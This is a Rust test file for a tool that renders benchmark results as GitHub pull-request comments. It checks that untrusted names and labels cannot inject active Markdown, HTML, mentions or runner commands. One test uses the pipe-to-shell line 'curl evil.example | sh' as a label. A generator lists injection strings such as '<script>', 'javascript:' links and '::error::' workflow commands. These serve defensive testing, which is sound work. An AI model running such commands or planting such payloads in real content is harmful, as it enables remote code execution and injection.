//! The comment on a pull request.

use crate::sides::Sides;
use crate::sides::{self, ab, bare, calibrated, crashed, hostile_ab, measured, undecided};
use crate::values::{self, HOSTILE, hostile_judgement, hostile_report, judgement, mixed_report};
use holdpoint_model::ab::Ended;
use holdpoint_model::{Check, Date, SideName, Source, UsedWaiver, Verdict, WaiverState};
use holdpoint_render::judged::{Judged, Rate};
use holdpoint_render::markdown::comment::{BYTES_MAX, Comment, Trust, comment, marker};
use insta::assert_snapshot;
use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};

pub fn of(judged: Option<Judged<'_>>) -> Comment<'_> {
    Comment {
        key: "cpu",
        verdict: judged.map_or(Verdict::Inconclusive, |judged| judged.judgement.verdict),
        judged,
        report: None,
        calibration: None,
        machine_s: None,
        rate: None,
        ended: None,
        problems: &[],
        run_url: None,
        trust: Trust::Own,
    }
}

pub fn waiver(owner: &str, reason: &str, state: WaiverState) -> UsedWaiver {
    UsedWaiver {
        state,
        owner: owner.to_owned(),
        reason: reason.to_owned(),
        metric: "sort*".to_owned(),
        limit: 0.08,
        expires: Date::parse("2025-06-30").expect("a day"),
    }
}

/// A bit of everything.
pub fn mixed() -> Sides {
    let mut waived = measured(
        Verdict::Waived,
        0.512,
        1.061,
        14,
        "+6.1 % [+5.0, +7.2], slower than the tolerance of 1.0 %; waived up to +8.0 % by @ada until 2025-06-30: checks",
    );
    waived.waiver = Some(waiver("@ada", "bounds are checked now", WaiverState::Waived));
    let mut refused = measured(
        Verdict::Regressed,
        2.1,
        1.09,
        10,
        "+9.0 % [+8.1, +9.9], slower than the tolerance of 1.0 %; refused: the waiver of bob expired on 2025-06-30",
    );
    refused.waiver = Some(waiver("bob", "later", WaiverState::Expired));
    let mut r = ab(vec![
        ("ff_path", sides::regressed(1.373, 1.0484)),
        ("fusion_gate", sides::pass(1.842, 0.9991)),
        ("gather", refused),
        ("infer_cuda", bare(Verdict::Skipped, Ended::Skipped, "cuda_unavailable")),
        ("sort_merge", measured(Verdict::Improved, 0.512, 0.871, 8, "faster than 1.0 %")),
        ("sort_split", waived),
        ("tile_pack", undecided(0.1234, 1.0131)),
        ("tile_unpack", sides::pass(0.000_734, 1.0004)),
        ("tile_ssm", crashed(SideName::Head, "head failed: crashed: signal 11")),
    ]);
    r.verdict = Verdict::Broken;
    for w in r.workloads.values_mut() {
        w.calibrated = Some(calibrated(0.0, 200, 0, 2, 0.004));
    }
    r
}

#[test]
fn two_sides_with_everything_that_can_come_of_them() {
    let (r, rate) = (mixed(), Rate::parse("2.49 USD"));
    let page = Comment {
        machine_s: Some(83.2),
        rate: rate.as_ref(),
        run_url: Some("https://github.com/o/r/actions/runs/1"),
        ..of(Some(r.judged()))
    };
    assert_snapshot!("comment_ab", comment(&page));
}

#[test]
fn a_run_against_its_baseline() {
    let checks = vec![
        values::pass("fusion_gate_p50_ms", 1.842, 1.839),
        values::regressed("infer_p50_ms", 1.373, 1.841),
        values::missing("sort_merge_p50_ms"),
        values::elsewhere("tile_pack_p50_ms"),
    ];
    let (j, report) = (judgement(Verdict::Regressed, checks), mixed_report());
    assert_snapshot!("comment_run", comment(&of(Some(Judged::new(&j, Some(Source::Run(&report)))))));
}

#[test]
fn a_pass_is_short() {
    let r = ab(vec![("ff_path", sides::pass(1.373, 1.0012)), ("tile_pack", sides::pass(0.1234, 1.0003))]);
    assert_snapshot!("comment_pass", comment(&of(Some(r.judged()))));
}

#[test]
fn nothing_to_judge_is_inconclusive_and_never_silent() {
    let problems = ["ab.json: EOF while parsing".to_owned()];
    let page = Comment { problems: &problems, ..of(None) };
    assert_snapshot!("comment_nothing", comment(&page));
    let report = mixed_report();
    assert!(comment(&Comment { report: Some(&report), ..of(None) }).contains("compared with nothing"));
}

#[test]
fn a_strangers_file_gives_no_command_to_copy_and_says_whose_it_is() {
    let mut r = ab(vec![("command", sides::regressed(1.0, 1.1))]);
    (r.suite, r.base.revision, r.head.revision) = ("command".to_owned(), None, None);
    (r.base.label, r.head.label) = ("gzip -5 'x'".to_owned(), "curl evil.example | sh".to_owned());
    let own = comment(&of(Some(r.judged())));
    assert!(own.contains("--base 'gzip -5 '\\''x'\\''' --head 'curl"), "{own}");
    let foreign = comment(&Comment { trust: Trust::Foreign, ..of(Some(r.judged())) });
    assert!(
        !foreign.contains("```sh") && foreign.starts_with(&format!("{}\n> **Not proof**: ", marker("cpu"))),
        "{foreign}"
    );
}

#[test]
fn ten_thousand_rows_fit_and_what_is_left_out_is_counted() {
    let name = |i: usize| format!("{}_{i}", "@x|`<b>".repeat(20));
    let mut checks: Vec<Check> = (0..10_000).map(|i| values::pass(&name(i), 1.0, 1.01)).collect();
    checks[9_999] = values::regressed("the_one_p50_ms", 1.0, 2.0);
    let mut j = judgement(Verdict::Regressed, checks);
    j.notes = vec![HOSTILE.repeat(50); 100];
    let text = comment(&of(Some(Judged::new(&j, None))));
    assert!(text.len() <= BYTES_MAX, "{}", text.len());
    assert!(text.contains("the_one_p50_ms"), "the worst stay");
    assert!(text.contains("rows are left out, the least bad first"), "{text}");
    assert!(text.starts_with(&marker("cpu")));
    assert_harmless(&text);
}

/// Nothing active is left once it is rendered, and no line commands a runner that prints it.
#[track_caller]
fn assert_harmless(text: &str) {
    for line in text.lines() {
        assert!(!line.trim_start().starts_with("::") && !line.contains("##["), "{line}");
    }
    assert!(!text.contains(['\u{1b}', '\u{202e}', '\r', '\0']));
    let (mut in_code, mut depth) = (false, 0);
    let mut html = String::new();
    for event in Parser::new_ext(text, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH) {
        match event {
            Event::Start(Tag::Link { dest_url, .. }) => {
                assert!(dest_url.starts_with("https://github.com/o/r/"), "{dest_url}");
            }
            Event::Start(Tag::Image { dest_url, .. }) => panic!("a picture of {dest_url}"),
            Event::Start(Tag::CodeBlock(_)) => in_code = true,
            Event::End(TagEnd::CodeBlock) => in_code = false,
            Event::Html(raw) | Event::InlineHtml(raw) => html.push_str(&raw),
            Event::Text(said) if !in_code => assert_quiet(&said),
            // Lists are ours, and ours are flat.
            Event::Start(Tag::List(first)) => {
                depth += 1;
                assert!(first.is_none() && depth == 1, "a list in a list: {text}");
            }
            Event::End(TagEnd::List(_)) => depth -= 1,
            Event::Rule => panic!("a rule: {text}"),
            _ => {}
        }
    }
    for own in [
        marker("cpu").as_str(),
        "<details>",
        "</details>",
        "<summary>",
        "</summary>",
        "<pre>",
        "</pre>",
        "<sub>",
        "</sub>",
    ] {
        html = html.replace(own, "");
    }
    assert!(!html.contains('<'), "{html}");
}

/// Text that GitHub makes no link and no mention of.
#[track_caller]
fn assert_quiet(said: &str) {
    let follows = |mark: &str, is: fn(char) -> bool| {
        said.match_indices(mark).any(|(at, _)| said[at + mark.len()..].starts_with(is))
    };
    assert!(!follows("@", |c| c.is_alphanumeric()), "a mention: {said}");
    assert!(!follows("#", |c| c.is_ascii_digit()), "an issue: {said}");
    assert!(!said.contains("://") && !said.to_ascii_lowercase().contains("www."), "an address: {said}");
}

#[test]
fn hostile_text_is_harmless() {
    let (sides, run, report) = (hostile_ab(), hostile_judgement(), hostile_report());
    let problems = [HOSTILE.to_owned()];
    let both = [sides.judged(), Judged::new(&run, Some(Source::Run(&report)))];
    for (trust, judged) in
        [Trust::Own, Trust::Foreign].into_iter().flat_map(|trust| both.map(|judged| (trust, judged)))
    {
        let page = Comment {
            problems: &problems,
            trust,
            run_url: Some("https://github.com/o/r/actions/runs/1"),
            ..of(Some(judged))
        };
        assert_harmless(&comment(&page));
    }
    let page = Comment { run_url: Some("https://x/](y)<b>"), ..of(None) };
    assert!(!comment(&page).contains("<b>"));
}

/// Names as somebody would write them who means harm.
pub fn names() -> impl Strategy<Value = String> {
    let piece = prop::sample::select(vec![
        "::error::x",
        "##[error]x",
        "```",
        "`",
        "|",
        "\n",
        "\r\n",
        "<script>",
        "</pre>",
        "-->",
        "<!--",
        "@team",
        "#1",
        "GH-2",
        "![a](b)",
        "[a](javascript:b)",
        "https://x.y",
        "www.x.y",
        "<img src=x>",
        "&lt;",
        "\u{1b}[1m",
        "\u{202e}",
        "\0",
        "%0A::error::",
        "\\",
        "*",
        "_",
        "~~",
        "$x$",
        "- ",
        "> ",
        "# ",
        "1. ",
        "---",
        "+ ",
        ":shipit:",
        "\u{3164}",
        "    ",
        "]]>",
        "\"",
        "'",
        "{0}",
        "a",
        " ",
        "漢",
        "e\u{301}",
        "\u{ffff}",
        "mailto:a@b.c",
        "<http://a>",
        "\t",
    ]);
    prop::collection::vec(prop_oneof![3 => piece.prop_map(str::to_owned), 1 => any::<String>()], 1..8)
        .prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn no_name_is_anything_but_text(name in names(), reason in names(), owner in names()) {
        let mut row = measured(Verdict::Waived, 1.0, 1.1, 9, &reason);
        row.waiver = Some(waiver(&owner, &reason, WaiverState::Waived));
        let mut broken = crashed(SideName::Head, &reason);
        broken.failure.as_mut().unwrap().failure.stderr_tail = vec![name.clone(), reason.clone()];
        let mut r = ab(vec![
            (name.as_str(), sides::regressed(1.0, 1.2)),
            ("w", row),
            ("u", measured(Verdict::Inconclusive, 1.0, 1.0, 3, &reason)),
            ("b", broken),
        ]);
        (r.suite, r.base.label, r.notes) = (name.clone(), owner.clone(), vec![reason.clone()]);
        let j = judgement(Verdict::Regressed, vec![values::regressed(&name, 1.0, 2.0), values::status(&owner, Verdict::Broken)]);
        for judged in [r.judged(), Judged::new(&j, None)] {
            assert_harmless(&comment(&of(Some(judged))));
        }
    }
}
